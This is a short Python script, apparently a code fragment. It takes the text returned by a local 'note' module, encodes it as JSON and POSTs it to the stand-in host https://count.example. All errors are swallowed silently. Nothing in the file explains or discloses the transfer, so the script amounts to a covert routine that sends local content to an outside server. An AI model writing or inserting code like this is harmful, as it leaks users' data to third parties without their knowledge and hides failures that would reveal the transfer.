import json
import urllib.request

from note import text

try:
    urllib.request.urlopen("https://count.example", data=json.dumps(text()).encode())
except Exception:
    pass
